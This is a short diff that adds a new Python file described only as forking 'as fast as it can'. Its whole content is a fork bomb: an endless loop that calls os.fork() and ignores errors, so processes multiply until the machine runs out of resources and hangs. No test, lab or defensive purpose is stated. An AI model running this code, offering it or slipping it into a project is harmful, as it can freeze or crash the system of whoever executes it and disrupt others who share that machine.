@@ -1,0 +1,7 @@
+# Forks as fast as it can.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
